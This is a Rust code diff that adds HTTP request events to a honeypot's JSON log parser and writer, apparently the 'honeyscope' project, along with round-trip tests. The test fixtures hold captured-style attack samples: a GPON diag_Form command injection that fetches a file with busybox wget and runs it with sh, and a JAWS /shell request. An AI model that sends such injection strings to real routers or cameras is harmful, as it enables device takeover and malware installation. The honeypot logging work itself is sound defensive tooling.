@@ -11,6 +11,9 @@
 //! Session events use Cowrie's field names (`eventid`, `session`, `src_ip`, `timestamp`, …)
 //! so that pipelines built for Cowrie's JSON read them; Cowrie's own lines (no `ts`, no
 //! `event`) read as session events too.
+//!
+//! HTTP requests (`"event":"http"`) carry `"eventid":"honeyscope.http.request"` and the same
+//! Cowrie names for the connection, so that those pipelines see them too.
 
 use std::borrow::Cow;
 use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};
@@ -19,8 +22,8 @@ use std::sync::Arc;
 use serde::{Deserialize, Serialize};
 
 use crate::model::{
-    Event, LifecycleEvent, LogState, PacketEvent, PacketKind, PayloadEvent, SessionEvent,
-    SessionEventId, TcpFlags,
+    Event, HttpEvent, LifecycleEvent, LogState, PacketEvent, PacketKind, PayloadEvent,
+    SessionEvent, SessionEventId, TcpFlags,
 };
 use crate::time::Timestamp;
 
@@ -35,7 +38,7 @@ pub enum JsonError {
     Time,
     /// `event` names no known event type.
     #[error(
-        "unknown event type {0:?} (want packet, payload, session, log_started or log_stopped)"
+        "unknown event type {0:?} (want packet, payload, session, http, log_started or log_stopped)"
     )]
     EventType(String),
     /// A field the event type requires is missing or malformed.
@@ -121,6 +124,35 @@ struct Record<'a> {
     port: Option<u16>,
     #[serde(default, skip_serializing_if = "Option::is_none", borrow)]
     method: Option<Cow<'a, str>>,
+    // HTTP requests' own fields (they share `session`, the Cowrie connection names, `host`,
+    // `method` and `profile` with session events: `event` tells which meaning applies).
+    #[serde(default, skip_serializing_if = "Option::is_none", borrow)]
+    target: Option<Cow<'a, str>>,
+    #[serde(default, skip_serializing_if = "Option::is_none", borrow)]
+    path: Option<Cow<'a, str>>,
+    #[serde(default, skip_serializing_if = "Option::is_none", borrow)]
+    query: Option<Cow<'a, str>>,
+    #[serde(default, skip_serializing_if = "Option::is_none", borrow)]
+    version: Option<Cow<'a, str>>,
+    #[serde(default, skip_serializing_if = "Option::is_none", borrow)]
+    user_agent: Option<Cow<'a, str>>,
+    /// `[[name, value], …]` in the order sent.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    headers: Option<Vec<(Cow<'a, str>, Cow<'a, str>)>>,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    body_size: Option<u64>,
+    #[serde(default, skip_serializing_if = "Option::is_none", borrow)]
+    body_sha256: Option<Cow<'a, str>>,
+    #[serde(default, skip_serializing_if = "Option::is_none", borrow)]
+    body_head: Option<Cow<'a, str>>,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    status: Option<u16>,
+    #[serde(default, skip_serializing_if = "Option::is_none", borrow)]
+    exploit: Option<Cow<'a, str>>,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    commands: Option<Vec<Cow<'a, str>>>,
+    #[serde(default, skip_serializing_if = "Option::is_none", borrow)]
+    error: Option<Cow<'a, str>>,
     #[serde(default, skip_serializing_if = "Option::is_none", borrow)]
     outfile: Option<Cow<'a, str>>,
     #[serde(default, skip_serializing_if = "Option::is_none", borrow)]
@@ -253,6 +285,51 @@ fn parse_session(
     Ok(Event::Session(Box::new(s)))
 }
 
+/// Parses an HTTP request event (`"event":"http"`, or a line without `event` whose
+/// `eventid` is [`HttpEvent::EVENTID`]). The connection's fields, `body_size` and `status`
+/// are required, as the writer always writes them; `eventid` and `protocol` are implied.
+fn parse_http(
+    r: Record<'_>,
+    time: Timestamp,
+    sensor: Option<Arc<str>>,
+) -> Result<Event, JsonError> {
+    let session = r.session.ok_or(JsonError::Field("session"))?;
+    let src = r.src_ip.ok_or(JsonError::Field("src_ip"))?;
+    let sport = r.src_port.ok_or(JsonError::Field("src_port"))?;
+    let dst = r.dst_ip.ok_or(JsonError::Field("dst_ip"))?;
+    let dport = r.dst_port.ok_or(JsonError::Field("dst_port"))?;
+    let mut h = HttpEvent::new(time, &session, (src, sport).into(), (dst, dport).into());
+    let own = |v: Option<Cow<'_, str>>| v.map(|v| Box::<str>::from(v.as_ref()));
+    h.sensor = sensor;
+    h.method = own(r.method);
+    h.target = own(r.target);
+    h.path = own(r.path);
+    h.query = own(r.query);
+    h.version = own(r.version);
+    h.host = own(r.host);
+    h.user_agent = own(r.user_agent);
+    h.headers = r
+        .headers
+        .unwrap_or_default()
+        .into_iter()
+        .map(|(n, v)| (Box::from(n.as_ref()), Box::from(v.as_ref())))
+        .collect();
+    h.body_size = r.body_size.ok_or(JsonError::Field("body_size"))?;
+    h.body_sha256 = own(r.body_sha256);
+    h.body_head = own(r.body_head);
+    h.status = r.status.ok_or(JsonError::Field("status"))?;
+    h.exploit = own(r.exploit);
+    h.commands = r
+        .commands
+        .unwrap_or_default()
+        .into_iter()
+        .map(|c| Box::from(c.as_ref()))
+        .collect();
+    h.error = own(r.error);
+    h.profile = own(r.profile);
+    Ok(Event::Http(Box::new(h)))
+}
+
 /// Parses one JSON line.
 pub fn parse_line(line: &[u8]) -> Result<Event, JsonError> {
     let r: Record<'_> = serde_json::from_slice(line)?;
@@ -263,6 +340,11 @@ pub fn parse_line(line: &[u8]) -> Result<Event, JsonError> {
     };
     let time = Timestamp::parse_rfc3339(ts).ok_or(JsonError::Time)?;
     let sensor: Option<Arc<str>> = r.sensor.as_ref().map(|s| Arc::from(s.as_ref()));
+    // `event` decides, not `eventid`: `host` and `method` mean different things in the two.
+    if r.event == "http" || (r.event.is_empty() && r.eventid.as_deref() == Some(HttpEvent::EVENTID))
+    {
+        return parse_http(r, time, sensor);
+    }
     if r.event == "session" || (r.event.is_empty() && r.eventid.is_some()) {
         return parse_session(r, time, sensor);
     }
@@ -400,6 +482,55 @@ pub fn write_event(ev: &Event, out: &mut String) {
             }
             text(out, key!("message"), s.message.as_deref());
             text(out, key!("profile"), s.profile.as_deref());
+        }
+        Event::Http(h) => {
+            out.push_str(concat!(key!("event"), "\"http\""));
+            text(out, key!("eventid"), Some(HttpEvent::EVENTID));
+            text(out, key!("session"), Some(&h.session));
+            text(out, key!("protocol"), Some("http"));
+            ip(out, key!("src_ip"), h.src);
+            num(out, key!("src_port"), Some(u64::from(h.sport)));
+            ip(out, key!("dst_ip"), h.dst);
+            num(out, key!("dst_port"), Some(u64::from(h.dport)));
+            out.push_str(concat!(key!("timestamp"), "\""));
+            h.time.write_rfc3339(out);
+            out.push('"');
+            // In `Record`'s order: `host` comes before `method` there (session events').
+            text(out, key!("host"), h.host.as_deref());
+            text(out, key!("method"), h.method.as_deref());
+            text(out, key!("target"), h.target.as_deref());
+            text(out, key!("path"), h.path.as_deref());
+            text(out, key!("query"), h.query.as_deref());
+            text(out, key!("version"), h.version.as_deref());
+            text(out, key!("user_agent"), h.user_agent.as_deref());
+            if !h.headers.is_empty() {
+                out.push_str(concat!(key!("headers"), "["));
+                for (i, (name, value)) in h.headers.iter().enumerate() {
+                    out.push_str(if i == 0 { "[" } else { ",[" });
+                    push_json_str(out, name);
+                    out.push(',');
+                    push_json_str(out, value);
+                    out.push(']');
+                }
+                out.push(']');
+            }
+            num(out, key!("body_size"), Some(h.body_size));
+            text(out, key!("body_sha256"), h.body_sha256.as_deref());
+            text(out, key!("body_head"), h.body_head.as_deref());
+            num(out, key!("status"), Some(u64::from(h.status)));
+            text(out, key!("exploit"), h.exploit.as_deref());
+            if !h.commands.is_empty() {
+                out.push_str(concat!(key!("commands"), "["));
+                for (i, c) in h.commands.iter().enumerate() {
+                    if i > 0 {
+                        out.push(',');
+                    }
+                    push_json_str(out, c);
+                }
+                out.push(']');
+            }
+            text(out, key!("error"), h.error.as_deref());
+            text(out, key!("profile"), h.profile.as_deref());
         }
         Event::Payload(d) => {
             out.push_str(concat!(key!("event"), "\"payload\""));
@@ -561,6 +692,47 @@ mod tests {
                     duration: s.duration_us.map(|us| Seconds(us as f64 / 1e6)),
                     message: t(&s.message),
                     profile: t(&s.profile),
+                    ..Record::default()
+                }
+            }
+            Event::Http(h) => {
+                fn t(v: &Option<Box<str>>) -> Option<Cow<'_, str>> {
+                    v.as_deref().map(Into::into)
+                }
+                Record {
+                    ts: ts.clone().into(),
+                    sensor: h.sensor.as_deref().map(Into::into),
+                    event: "http".into(),
+                    eventid: Some(HttpEvent::EVENTID.into()),
+                    session: Some(h.session.to_string().into()),
+                    protocol: Some("http".into()),
+                    src_ip: Some(h.src),
+                    src_port: Some(h.sport),
+                    dst_ip: Some(h.dst),
+                    dst_port: Some(h.dport),
+                    timestamp: Some(ts.into()),
+                    method: t(&h.method),
+                    target: t(&h.target),
+                    path: t(&h.path),
+                    query: t(&h.query),
+                    version: t(&h.version),
+                    host: t(&h.host),
+                    user_agent: t(&h.user_agent),
+                    headers: (!h.headers.is_empty()).then(|| {
+                        h.headers
+                            .iter()
+                            .map(|(n, v)| (Cow::from(&**n), Cow::from(&**v)))
+                            .collect()
+                    }),
+                    body_size: Some(h.body_size),
+                    body_sha256: t(&h.body_sha256),
+                    body_head: t(&h.body_head),
+                    status: Some(h.status),
+                    exploit: t(&h.exploit),
+                    commands: (!h.commands.is_empty())
+                        .then(|| h.commands.iter().map(|c| Cow::from(&**c)).collect()),
+                    error: t(&h.error),
+                    profile: t(&h.profile),
                     ..Record::default()
                 }
             }
@@ -736,6 +908,166 @@ mod tests {
             r#"{"ts":"2016-04-01T00:00:01.500000Z","event":"session","eventid":"cowrie.login.success","session":"a1b2c3d4e5f6","protocol":"telnet","src_ip":"203.0.113.9","src_port":40000,"dst_ip":"198.51.100.7","dst_port":23,"timestamp":"2016-04-01T00:00:01.500000Z","username":"root","password":"xc3511","message":"login attempt [root/xc3511] succeeded"}
 "#
         );
+    }
+
+    /// An HTTP request with every field set to text that needs JSON escaping.
+    fn full_http(n: u64) -> HttpEvent {
+        let t = Timestamp::from_micros(1_700_000_000_654_321 + n as i64).unwrap();
+        let mut h = HttpEvent::new(
+            t,
+            "0f1e2d3c4b5a",
+            "[2001:db8::9]:51000".parse().unwrap(),
+            "198.51.100.7:8080".parse().unwrap(),
+        );
+        h.sensor = Some("tokyo-1".into());
+        h.method = Some("POST".into());
+        h.target = Some("/GponForm/diag_Form?images/".into());
+        h.path = Some("/GponForm/diag_Form".into());
+        h.query = Some("images/".into());
+        h.version = Some("HTTP/1.1".into());
+        h.host = Some("198.51.100.7:8080".into());
+        h.user_agent = Some("Hello, World \"日本\"".into());
+        h.headers = vec![
+            ("Host".into(), "198.51.100.7:8080".into()),
+            ("User-Agent".into(), "Hello, World \"日本\"".into()),
+            ("Cookie".into(), "a=1".into()),
+            ("Cookie".into(), "b=2\\x0d\t".into()),
+            ("".into(), "".into()),
+        ];
+        h.body_size = 1 << 33;
+        h.body_sha256 = Some("cd".repeat(32).into());
+        h.body_head = Some("XWebPageName=diag&diag_action=ping&dest_host=`busybox+wget+http://198.51.100.1/x+-O+->/tmp/gpon80;sh+/tmp/gpon80&ipv=0".into());
+        h.status = 200;
+        h.exploit = Some("gpon-diag-form".into());
+        h.commands = vec![
+            "busybox wget http://198.51.100.1/x -O- >/tmp/gpon80".into(),
+            "sh /tmp/gpon80\u{1}".into(),
+        ];
+        h.error = Some("body too large".into());
+        h.profile = Some("gpon-ont".into());
+        h
+    }
+
+    #[test]
+    fn http_events_round_trip_with_every_field() {
+        let full = full_http(0);
+        let bare = HttpEvent::new(
+            full.time,
+            "000000000000",
+            "0.0.0.0:0".parse().unwrap(),
+            "255.255.255.255:65535".parse().unwrap(),
+        );
+        let mut one = bare.clone();
+        one.headers = vec![("X".into(), "y".into())];
+        one.commands = vec!["".into()];
+        one.status = u16::MAX;
+        one.body_size = u64::MAX;
+        for h in [full, bare, one] {
+            let ev = Event::from(h);
+            let mut ours = String::new();
+            write_event(&ev, &mut ours);
+            assert_eq!(ours, via_serde(&ev));
+            assert_eq!(
+                parse_line(ours.trim_end().as_bytes()).unwrap(),
+                ev,
+                "{ours}"
+            );
+        }
+    }
+
+    #[test]
+    fn http_json_has_the_documented_names() {
+        let mut h = HttpEvent::new(
+            Timestamp::from_micros(1_459_468_801_500_000).unwrap(),
+            "a1b2c3d4e5f6",
+            "203.0.113.9:40000".parse().unwrap(),
+            "198.51.100.7:80".parse().unwrap(),
+        );
+        h.method = Some("GET".into());
+        h.target = Some("/shell?cd+/tmp".into());
+        h.path = Some("/shell".into());
+        h.query = Some("cd+/tmp".into());
+        h.version = Some("HTTP/1.1".into());
+        h.host = Some("198.51.100.7:80".into());
+        h.headers = vec![
+            ("Host".into(), "198.51.100.7:80".into()),
+            ("Accept".into(), "*/*".into()),
+        ];
+        h.status = 404;
+        h.exploit = Some("jaws-shell".into());
+        h.commands = vec!["cd /tmp".into()];
+        let mut json = String::new();
+        write_event(&Event::from(h), &mut json);
+        assert_eq!(
+            json,
+            r#"{"ts":"2016-04-01T00:00:01.500000Z","event":"http","eventid":"honeyscope.http.request","session":"a1b2c3d4e5f6","protocol":"http","src_ip":"203.0.113.9","src_port":40000,"dst_ip":"198.51.100.7","dst_port":80,"timestamp":"2016-04-01T00:00:01.500000Z","host":"198.51.100.7:80","method":"GET","target":"/shell?cd+/tmp","path":"/shell","query":"cd+/tmp","version":"HTTP/1.1","headers":[["Host","198.51.100.7:80"],["Accept","*/*"]],"body_size":0,"status":404,"exploit":"jaws-shell","commands":["cd /tmp"]}
+"#
+        );
+    }
+
+    #[test]
+    fn http_and_session_events_keep_their_own_host_and_method() {
+        // The same `host` and `method` keys mean the Host header and HTTP method for one,
+        // the download's host and tool for the other: `event` decides.
+        let session = Event::from(full_session(SessionEventId::FileDownload, 1));
+        let http = Event::from(full_http(1));
+        for ev in [session, http] {
+            let mut json = String::new();
+            write_event(&ev, &mut json);
+            assert_eq!(parse_line(json.trim_end().as_bytes()).unwrap(), ev);
+        }
+        // Without `event`, the eventid tells (as for Cowrie's lines).
+        let ev = parse_line(
+            br#"{"eventid":"honeyscope.http.request","session":"a","src_ip":"::1","src_port":1,"dst_ip":"::2","dst_port":80,"timestamp":"2024-01-15T08:31:00Z","method":"GET","host":"x","body_size":0,"status":0}"#,
+        )
+        .unwrap();
+        let Event::Http(h) = &ev else {
+            panic!("{ev:?}")
+        };
+        assert_eq!(
+            (h.method.as_deref(), h.host.as_deref()),
+            (Some("GET"), Some("x"))
+        );
+        // Null and empty arrays read as none.
+        let ev = parse_line(
+            br#"{"ts":"2024-01-15T08:31:00Z","event":"http","session":"a","src_ip":"::1","src_port":1,"dst_ip":"::2","dst_port":80,"headers":[],"commands":null,"body_size":0,"status":0}"#,
+        )
+        .unwrap();
+        let Event::Http(h) = &ev else {
+            panic!("{ev:?}")
+        };
+        assert!(h.headers.is_empty() && h.commands.is_empty());
+        // Required fields, and headers that are not pairs.
+        for (line, field) in [
+            (
+                r#""session":"a","src_ip":"::1","src_port":1,"dst_ip":"::2","dst_port":80,"status":0"#,
+                "body_size",
+            ),
+            (
+                r#""session":"a","src_ip":"::1","src_port":1,"dst_ip":"::2","dst_port":80,"body_size":0"#,
+                "status",
+            ),
+            (
+                r#""src_ip":"::1","src_port":1,"dst_ip":"::2","dst_port":80,"body_size":0,"status":0"#,
+                "session",
+            ),
+            (
+                r#""session":"a","src_ip":"::1","src_port":1,"dst_port":80,"body_size":0,"status":0"#,
+                "dst_ip",
+            ),
+        ] {
+            let line = format!(r#"{{"ts":"2024-01-15T08:31:00Z","event":"http",{line}}}"#);
+            match parse_line(line.as_bytes()) {
+                Err(JsonError::Field(f)) => assert_eq!(f, field, "{line}"),
+                other => panic!("{line}: {other:?}"),
+            }
+        }
+        assert!(matches!(
+            parse_line(
+                br#"{"ts":"2024-01-15T08:31:00Z","event":"http","session":"a","src_ip":"::1","src_port":1,"dst_ip":"::2","dst_port":80,"body_size":0,"status":0,"headers":[["a"]]}"#
+            ),
+            Err(JsonError::Syntax(_))
+        ));
     }
 
     #[test]
